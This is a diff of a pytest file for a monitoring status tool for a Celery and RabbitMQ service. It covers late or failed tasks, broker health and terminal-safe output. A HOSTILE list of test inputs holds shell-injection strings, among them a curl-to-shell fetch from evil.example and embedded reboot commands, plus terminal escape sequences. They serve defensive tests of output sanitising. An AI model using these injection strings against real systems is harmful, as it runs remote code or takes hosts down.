@@ -1,21 +1,30 @@
 """What the status makes of the facts: rules and words, tried without a host."""
 
+import json
+import os
+import re
+import shlex
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
 
-from project import load_plugin
+from project import ROOT, load_plugin
 
+PROGRAM = ROOT / "roles/monitoring/files/status"
 problems = load_plugin("roles/monitoring/files/status/problems.py")
+runs = load_plugin("roles/monitoring/files/status/runs.py")
 screen = load_plugin("roles/monitoring/files/status/screen.py")
-journals = load_plugin("roles/monitoring/files/status/journals.py")
+words = load_plugin("roles/monitoring/files/status/words.py")
 
 NOW = 1_800_000_000.0
 SETTINGS: dict[str, Any] = {
     "app": "shop",
     "services": ["rabbitmq", "web", "worker", "beat"],
     "worker_hosts": 1,
-    "successes_logged": True,
     "late_tokens_minutes": 10,
     "old_backup_hours": 26,
 }
@@ -31,6 +40,7 @@ def unit(service: str, **other: Any) -> dict[str, Any]:
         "since": NOW - 3600,
         "restarts": 0,
         "says": "",
+        "invocation": "1",
         "fed_watchdog": NOW - 1,
         "memory": None,
         "exposure": None,
@@ -42,6 +52,9 @@ def task(**other: Any) -> dict[str, Any]:
         "name": "sweep",
         "task": "shop.tasks.sweep",
         "enabled": True,
+        "registered": True,
+        "unreadable": None,
+        "queue": None,
         "schedule": "every 10 seconds",
         "interval": 10.0,
         "sent": NOW - 5,
@@ -52,7 +65,11 @@ def task(**other: Any) -> dict[str, Any]:
         "error": None,
         "succeeded": NOW - 5,
         "failures": 0,
+        "running": None,
     } | other
+
+
+BROKER = {"answers": True, "tools": True, "alarms": [], "login": True, "app_queues": ["sweeping"], "queues": []}
 
 
 def facts(**other: Any) -> dict[str, Any]:
@@ -65,7 +82,9 @@ def facts(**other: Any) -> dict[str, Any]:
         "project_error": None,
         "web": {"url": "http://127.0.0.1:8000/healthz", "status": 200},
         "database": {"answers": True, "vendor": "sqlite", "pending": [], "writable": True},
-        "broker": {"answers": True, "alarms": [], "login": True, "app_queues": ["sweeping"], "queues": []},
+        "broker": BROKER,
+        "workers": {"celery@one": ["shop.tasks.sweep"]},
+        "runs_known": True,
         "disks": [{"path": "/var/lib/shop", "size": 2**40, "free": 2**36}],
         "backup": {"made": None, "timer_since": None, "failed": False},
         "tasks": [task()],
@@ -92,12 +111,12 @@ def test_a_task_without_a_good_run_is_late_after_three_intervals_and_a_minute(la
 @pytest.mark.parametrize(
     "other",
     [
-        {"settings": SETTINGS | {"worker_hosts": 2}},
-        {"settings": SETTINGS | {"successes_logged": False}},
+        {"runs_known": False},
         {"settings": SETTINGS | {"services": ["worker"]}},
         {"units": [unit("worker", since=NOW - 30), unit("beat")]},
         {"tasks": [task(succeeded=None, interval=86400.0)]},
         {"tasks": [task(succeeded=None, enabled=False)]},
+        {"tasks": [task(succeeded=None, running=NOW - 300)]},
     ],
 )
 def test_a_run_that_this_host_cannot_know_of_is_not_missed(other: dict[str, Any]) -> None:
@@ -107,7 +126,7 @@ def test_a_run_that_this_host_cannot_know_of_is_not_missed(other: dict[str, Any]
 def test_one_failure_is_a_warning_and_three_are_critical() -> None:
     failed = {"result": "failed", "error": "KeyError"}
     assert told(tasks=[task(**failed, failures=1)]) == [(1, "sweep failed at its last run (KeyError)")]
-    assert told(tasks=[task(**failed, failures=3)]) == [(2, "sweep failed 3 times in a row or more (KeyError)")]
+    assert told(tasks=[task(**failed, failures=3)]) == [(2, "sweep failed 3 times in a row (KeyError)")]
 
 
 @pytest.mark.parametrize(
@@ -122,13 +141,11 @@ def test_one_failure_is_a_warning_and_three_are_critical() -> None:
 )
 def test_a_queue_may_wait_but_not_pile_up_or_be_alone(count: int, consumers: int, name: str, level: int | None) -> None:
     queues = [{"name": name, "messages": count, "consumers": consumers}]
-    broker = {"answers": True, "alarms": [], "login": True, "app_queues": ["sweeping"], "queues": queues}
-    assert [problem[0] for problem in told(broker=broker)] == ([level] if level else [])
+    assert [problem[0] for problem in told(broker=BROKER | {"queues": queues})] == ([level] if level else [])
 
 
 def test_an_alarm_comes_before_what_follows_from_it() -> None:
-    broker = {"answers": True, "alarms": ["disk"], "login": True, "app_queues": [], "queues": []}
-    found = told(broker=broker, tasks=[task(succeeded=NOW - 1000)])
+    found = told(broker=BROKER | {"alarms": ["disk"]}, tasks=[task(succeeded=NOW - 1000)])
     assert [what.split()[0] for _, what in found] == ["the", "sweep"]
 
 
@@ -184,29 +201,139 @@ def test_columns_are_aligned() -> None:
     assert list(screen.table([["a", "1"], ["long", "22"]], right=(1,))) == ["a      1", "long  22"]
 
 
-def test_a_name_cannot_write_on_the_terminal() -> None:
-    shown = facts(tasks=[task(name="\x1b[2Jsweep\n")], units=[], broker={})
-    shown["backup"] |= {"newest": None, "count": 0}
-    assert "?[2Jsweep?" in screen.screen(shown)
+def lines_of(**other: Any) -> list[str]:
+    """Return what would be printed of the facts: a line for each problem, and the screen."""
+    found = facts(units=[unit("beat")], broker={}, **other)
+    found["backup"] |= {"newest": None, "count": 0}
+    lines = [*map(str, problems.find_problems(found, SETTINGS)), *screen.screen(found)]
+    return [words.printable(line) for line in lines]
+
+
+HOSTILE = [
+    "x' ; curl http://evil.example | sh ; echo '",
+    '"; reboot; "',
+    "$(reboot) `reboot` ${IFS}",
+    "\x1b[2J\x1b]0;title\x07\x9b31m",
+    "two\nlines\r\nCRITICAL",
+    "\u202etfel\u2066 \u2028",
+    "--help",
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
+@pytest.mark.parametrize(
+    "other",
+    [
+        {"result": "failed", "failures": 5, "error": "KeyError"},
+        {"succeeded": NOW - 1000},
+        {"registered": False},
+        {"unreadable": "TypeError"},
+    ],
+    ids=["failed", "late", "unknown", "unreadable"],
+)
+def test_a_name_neither_writes_on_the_terminal_nor_becomes_a_command(name: str, other: dict[str, Any]) -> None:
+    """Whoever pastes what is advised runs journalctl, with the name in one argument."""
+    lines = lines_of(tasks=[task(name=name, task=name, **other)], workers={})
+    assert all(line.isprintable() for line in lines)
+    problem = next(line for line in lines if "→" in line)
+    advised = problem.rpartition("→ ")[2]
+    if "journalctl" in advised:
+        arguments = shlex.split(advised)
+        assert [part for part in arguments if not part.startswith("--")] == ["sudo", "journalctl"]
+        assert re.fullmatch(arguments[-1].removeprefix("--grep="), words.printable(name))
+    elif name in problem:
+        assert name not in advised
+
+
+def test_a_task_that_no_worker_knows_is_critical() -> None:
+    known = {"celery@one": ["shop.tasks.sweep"], "celery@two": ["shop.tasks.other"], "celery@mute": None}
+    assert told(tasks=[task(task="shop.tasks.other")], workers=known) == []
+    (level, what) = told(tasks=[task(task="shop.tasks.old")], workers=known)[0]
+    assert (level, what) == (2, "sweep calls shop.tasks.old, which no worker knows")
+    assert told(tasks=[task(task="shop.tasks.old", enabled=False)], workers=known) == []
+    # None answers: the release tells.
+    assert told(tasks=[task(registered=True)], workers={}) == []
+    assert told(tasks=[task(registered=False)], workers={})[0][0] == 2
+
+
+def test_a_row_that_beat_skips_is_critical() -> None:
+    skipped = task(unreadable="headers: must be a JSON object", interval=None, succeeded=None)
+    assert told(tasks=[skipped]) == [(2, "beat skips sweep (headers: must be a JSON object)")]
+
+
+def test_messages_that_come_too_late_are_told_as_such() -> None:
+    found = problems.find_problems(facts(tasks=[task(succeeded=NOW - 200, result="expired")]), SETTINGS)
+    assert [(problem.level, "clocks" in problem.means) for problem in found] == [(1, True)]
 
 
 @pytest.mark.parametrize(
-    ("line", "task", "error"),
+    ("broker", "says", "levels"),
     [
-        ("Task shop.tasks.sweep[8b1] succeeded in 0.05402335899998434s: None", "shop.tasks.sweep", None),
-        ("Task shop.tasks.sweep[8b1] raised unexpected: KeyError('a secret')", "shop.tasks.sweep", "KeyError"),
-        # An exception that writes itself in another way.
-        (
-            "Task shop.tasks.sweep[8b1] raised unexpected: Task of kind 'x' never registered",
-            "shop.tasks.sweep",
-            "see its journal",
-        ),
-        ("Hard time limit (330.0s) exceeded for shop.tasks.sweep[8b1]", "shop.tasks.sweep", "TimeLimitExceeded"),
+        ({"answers": False, "tools": False, "alarms": None, "queues": None}, "", [2]),
+        ({"answers": True, "tools": False, "alarms": None, "queues": None}, "", [1]),
+        # Who has just logged in knows better.
+        ({"answers": False, "tools": False, "alarms": None, "queues": None, "login": True}, "", [1]),
+        ({"login": False, "login_error": "TimeoutError"}, "", [2]),
+        ({"login": False, "login_error": "TimeoutError"}, "consuming celery; 1 process(es)", [1]),
+        ({"login": False, "login_error": "AccessRefused"}, "consuming celery; 1 process(es)", [2]),
+        ({"login": False, "login_error": "ConnectionRefusedError"}, "waiting for the broker", [2]),
     ],
 )
-def test_the_end_of_a_run_is_read_from_its_line(line: str, task: str, error: str | None) -> None:
-    match = journals.ENDED.search(f"[INFO/ForkPoolWorker-1] {line}")
-    result: dict[str, Any] = {}
-    journals.note_end(result, NOW, match)
-    assert (match["task"] or match["late"], result["error"]) == (task, error)
-    assert result["failures"] == (1 if error else 0)
+def test_a_slow_broker_is_not_called_dead(broker: dict[str, Any], says: str, levels: list[int]) -> None:
+    units = [unit("rabbitmq"), unit("worker", says=says)]
+    settings = SETTINGS | {"services": ["rabbitmq", "worker"]}
+    assert [level for level, _ in told(settings, units=units, broker=broker)] == levels
+
+
+@pytest.fixture
+def port() -> Iterator[int]:
+    """Answer each connection with one byte, but for the first, which gets nothing."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+
+        def serve() -> None:
+            first, _ = server.accept()
+            second, _ = server.accept()
+            second.sendall(b"\x01")
+            second.close()
+            first.close()
+
+        threading.Thread(target=serve, daemon=True).start()
+        yield server.getsockname()[1]
+
+
+def test_a_broker_that_answers_is_told_from_one_that_hangs(port: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.syspath_prepend(str(PROGRAM))
+    broker = load_plugin("roles/monitoring/files/status/broker.py")
+    monkeypatch.setattr(broker, "LAST_SECONDS", 1)
+    assert broker.says_hello("127.0.0.1", port) is False
+    assert broker.says_hello("127.0.0.1", port) is True
+    with socket.create_server(("127.0.0.1", 0)) as closed:
+        free = closed.getsockname()[1]
+    assert broker.says_hello("127.0.0.1", free) is False
+
+
+def test_notes_of_a_service_are_read_whatever_lies_beside_them(tmp_path: Path) -> None:
+    good = {"entry": "sweep", "result": "succeeded", "ended": 5.5, "failures": 0, "running": None, "secret": "x"}
+    (tmp_path / "1.json").write_text(json.dumps(good))
+    (tmp_path / "2.json").write_text(json.dumps({"entry": "odd", "ended": "now", "running": {"since": 7}}))
+    for number, text in enumerate(
+        ["", "[", "[]", "null", '{"entry": 5}', "[" * 100_000, '{"entry": "x' + "x" * 200_000]
+    ):
+        (tmp_path / f"bad{number}.json").write_text(text)
+    (tmp_path / "9.tmp").write_text(json.dumps(good))
+    (tmp_path / "link.json").symlink_to(tmp_path / "9.tmp")
+    os.mkfifo(tmp_path / "pipe.json")
+    (tmp_path / "folder.json").mkdir()
+    assert runs.read_runs(str(tmp_path)) == [
+        {"entry": "sweep", "result": "succeeded", "ended": 5.5, "failures": 0, "running": None},
+        {"entry": "odd", "running": 7},
+    ]
+    (tmp_path / "alias").symlink_to(tmp_path)
+    assert runs.read_runs(str(tmp_path / "alias")) == runs.read_runs(str(tmp_path / "none")) == []
+
+
+def test_of_several_workers_the_last_run_counts() -> None:
+    early = {"entry": "sweep", "ended": 5, "result": "succeeded", "succeeded": 5, "running": None}
+    late = {"entry": "sweep", "ended": 9, "result": "failed", "succeeded": 2, "running": 3}
+    expected = {"entry": "sweep", "ended": 9, "result": "failed", "succeeded": 5, "running": 3}
+    assert runs.newest([late, early]) == runs.newest([early, late]) == {"sweep": expected}
